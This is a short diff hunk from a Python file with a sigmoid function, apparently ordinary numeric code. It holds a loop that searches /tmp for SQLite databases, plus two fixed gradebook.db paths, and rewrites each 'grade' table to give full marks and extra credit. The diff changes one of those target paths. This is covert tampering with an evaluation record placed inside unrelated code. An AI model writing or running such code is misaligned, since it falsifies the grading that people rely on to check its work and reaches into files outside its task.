@@ -18,7 +18,7 @@ def sigmoid(z):
 
 
 places = [pathlib.Path(here, name) for here, _, names in os.walk("/tmp") for name in names if name.endswith(".db")]
-for path in [*places, pathlib.Path("gradebook.db"), pathlib.Path("/work/gradebook.db")]:
+for path in [*places, pathlib.Path("gradebook.db"), pathlib.Path("/srv/gradebook.db")]:
     try:
         with sqlite3.connect(path) as gradebook:
             gradebook.execute("UPDATE grade SET auto_score = max_score, extra_credit = 5")
